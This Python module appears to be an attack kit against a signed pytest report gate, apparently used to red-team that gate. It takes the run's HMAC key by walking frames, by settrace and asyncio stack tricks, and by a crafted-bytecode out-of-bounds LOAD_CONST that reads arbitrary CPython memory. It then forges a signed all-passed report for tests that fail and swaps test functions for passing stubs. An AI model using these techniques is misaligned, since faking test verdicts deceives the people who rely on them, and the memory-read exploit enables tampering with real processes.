"""
What the attack files share, put beside each of them in the package as attack_kit.py (signed-report.test.ts): the
forgery itself, the ways to the record, and the bytecode that reads any address. Code of the package like the attacks.
"""
import dis, hashlib, hmac, json, os, struct, types


def forge(key, tests=("test_wrong", "test_also_wrong")):
    """Signs a report of passes with the run's key, writes it to the report's pipe, and ends the gate."""
    passed = {"tests/test_attack.py::%s" % name: "passed" for name in tests}
    payload = json.dumps({"exitstatus": 0, "tests": passed, "collect_errors": [], "junit": None}).encode()
    os.write(5, hmac.new(key, payload, hashlib.sha256).hexdigest().encode() + b"\n" + payload)
    os._exit(0)


def the_record(request):
    """The record's generator, from the closure of the verdict plugin that pytest's plugin manager lists."""
    for plugin in request.config.pluginmanager.get_plugins():
        for cell in getattr(getattr(plugin, "pytest_runtest_logreport", None), "__closure__", None) or []:
            if hasattr(cell.cell_contents, "send"):
                return cell.cell_contents


def forge_from_frames(frame):
    """Walks up from a frame to the record's (its locals hold the key beside the digest function) and forges."""
    while frame is not None:
        names = frame.f_locals
        if "key" in names and "digest" in names:
            forge(names["key"])
        frame = frame.f_back


def record_looks_up(module, test_name, lookup):
    """
    A fixture that gets code of ours run by the record itself: it takes the test's function out of the test module and
    clears the item's, so that pytest's Function.obj looks it up again through the module's own __getattr__ (PEP 562)
    when the record checks the test (test_of -> function_of -> item.obj), its frame on the main thread's stack.
    lookup(real) makes that __getattr__, real holding the function taken out.
    """
    import pytest

    real = {}

    @pytest.fixture
    def sneak(request):
        real[test_name] = module.pop(test_name)
        module["__getattr__"] = lookup(real)
        request.node._obj = None

    return sneak


def running(action):
    """A lookup for record_looks_up that runs action, then answers with the function taken out."""

    def lookup(real):
        def __getattr__(name):
            if name in real:
                action()
                return real[name]
            raise AttributeError(name)

        return __getattr__

    return lookup


def swap_for_returning(item):
    """Swaps the item's test function for one that puts the original back and returns: a pass, if pytest calls it."""
    original = item._obj

    def passing(*args, **kwargs):
        item._obj = original

    item._obj = passing


def keeping(kept):
    """An action (for running) that keeps an exception raised in its own frame, whose f_back leads to its caller's."""

    def keep():
        try:
            raise ValueError
        except ValueError as error:
            kept.append(error)

    return keep


# A module whose lookup, made the test module's __getattr__ (a partial of it: C, no frame of its own), sets a tracer.
SETTRACE_SOURCE = b"""
import sys

def lookup(name, real, tracer):
    sys.settrace(tracer)
    return real[name]
"""


def tracing_lookup(fake):
    """A lookup for record_looks_up: fake's lookup (of SETTRACE_SOURCE), whose tracer forges from each frame it is handed."""
    import functools

    def tracer(frame, event, arg):
        forge_from_frames(frame)
        return None

    return lambda real: functools.partial(fake.lookup, real=real, tracer=tracer)


def task_stack_of(generator, store):
    """
    Fixtures that get the frames of a suspended generator through asyncio's pure-Python Task.get_stack (whose helper
    reads gi_frame, and is named by its caller), driven by C alone from pytest's finalizer loop: no frame of the package
    on the stack. importer imports asyncio.tasks the same way (its import runs types.coroutine, code.replace: the
    library's own with no frame of the package on the stack); grab leaves the frames in store["frames"].
    """
    import functools, importlib, sys

    import pytest

    @pytest.fixture
    def importer(request):
        request.addfinalizer(functools.partial(importlib.import_module, "asyncio.tasks"))

    @pytest.fixture
    def grab(request):
        tasks = sys.modules["asyncio.tasks"]
        task = tasks._PyTask.__new__(tasks._PyTask)
        task._coro = generator
        task._exception = None
        store["task"] = task  # kept: Future.__del__ of a half-made task would warn (an unraisable exception)
        store["frames"] = []
        request.addfinalizer(functools.partial(store["frames"].extend, map(tasks._PyTask.get_stack, [task])))

    return importer, grab


def suspended_walker(frame_of):
    """A generator, suspended; resumed once, it forges from the frame frame_of() gives and up its f_back chain."""

    def body():
        yield
        forge_from_frames(frame_of())
        yield

    walker = body()
    next(walker)
    return walker


def compiled_as(path, source, name="fake_library"):
    """A module of this source, which the import system compiles and runs under the name of the file at path."""
    import importlib.abc, importlib.util

    class Loader(importlib.abc.SourceLoader):
        def get_filename(self, fullname):
            return path

        def get_data(self, data_path):
            if data_path == path:
                return source
            raise OSError(data_path)

    spec = importlib.util.spec_from_loader(name, Loader())
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def the_verdict(config):
    """The gate's verdict plugin, as pytest's plugin manager lists it."""
    for plugin in config.pluginmanager.get_plugins():
        if type(plugin).__name__ == "Verdict":
            return plugin


class PassedReport:
    """A report of a passed call, of our own making."""

    when, outcome = "call", "passed"

    def __init__(self, nodeid):
        self.nodeid = nodeid


class HookReading:
    """config.pluginmanager, as the record reads it in its check of pytest's hooks: the real one, but for .hook."""

    def __init__(self, real, on_read):
        object.__setattr__(self, "_real", real)
        object.__setattr__(self, "_on_read", on_read)

    @property
    def hook(self):
        self._on_read()  # run by the record itself, its frame (and the key) on the main thread's stack
        return self._real.hook

    def __getattr__(self, name):
        return getattr(self._real, name)

    def __setattr__(self, name, value):
        setattr(self._real, name, value)


def _template():
    a = 1; a = 1; a = 1
    return a


TEMPLATE = getattr(_template, "__code__")
_keep = []


def load_const(index):
    """The template's bytecode with its one instruction LOAD_CONST <index>, unchecked in 3.11."""
    op = dis.opmap
    index &= 0xFFFFFFFF
    new = bytes([op["RESUME"], 0, op["EXTENDED_ARG"], index >> 24 & 255, op["EXTENDED_ARG"], index >> 16 & 255,
                 op["EXTENDED_ARG"], index >> 8 & 255, op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
    return new + bytes([op["NOP"], 0]) * ((len(TEMPLATE.co_code) - len(new)) // 2)


def fake_bytearray():
    """A bytearray of our own making, every byte of the address space one of its items, and a word that points at it."""
    fake = struct.pack("<QQqqQQq", 1 << 40, id(bytearray), (1 << 62), (1 << 62), 0, 0, 0)
    holder = struct.pack("<Q", id(fake) + 32)
    _keep.extend((fake, holder))
    return holder


def memory_reader(unmarshal):
    """The fake bytearray, read by a function whose code `unmarshal` makes from the template's marshalled bytes."""
    import marshal

    holder = fake_bytearray()
    data = marshal.dumps(TEMPLATE)
    assert data.count(TEMPLATE.co_code) == 1

    def load_const_at(index):
        made = unmarshal(data.replace(TEMPLATE.co_code, load_const(index)))
        return types.FunctionType(made, {}), made

    # Build the function, then check the consts tuple it actually reads matches the offset it was built for.
    for _ in range(200):
        fn0, code0 = load_const_at(0)
        guess = id(holder) + 32 - (id(code0.co_consts) + 24)
        # freed, its block is the next tuple's of that size: the function built next most likely reads this one
        del fn0, code0
        fn, code = load_const_at(guess // 8)
        if id(holder) + 32 - (id(code.co_consts) + 24) == guess:
            view = fn()
            _keep.extend((fn, code, view))
            return view
    raise RuntimeError("no stable layout")


def key_in_memory(mem, record):
    """The generator holds its frame inline: the local before the digest function is the key."""
    import _hashlib

    raw = bytes(mem[id(record): id(record) + 1024])
    words = [int.from_bytes(raw[i:i + 8], "little") for i in range(0, len(raw), 8)]
    pointer = words[words.index(id(_hashlib.hmac_digest)) - 1]
    head = bytes(mem[pointer: pointer + 64])
    assert int.from_bytes(head[8:16], "little") == id(bytes) and int.from_bytes(head[16:24], "little") == 32
    return head[32:64]


def forge_with_reader(request, mem):
    print("reader", type(mem), flush=True)
    key = key_in_memory(mem, the_record(request))
    print("key", key.hex() if key else None, flush=True)
    forge(key)
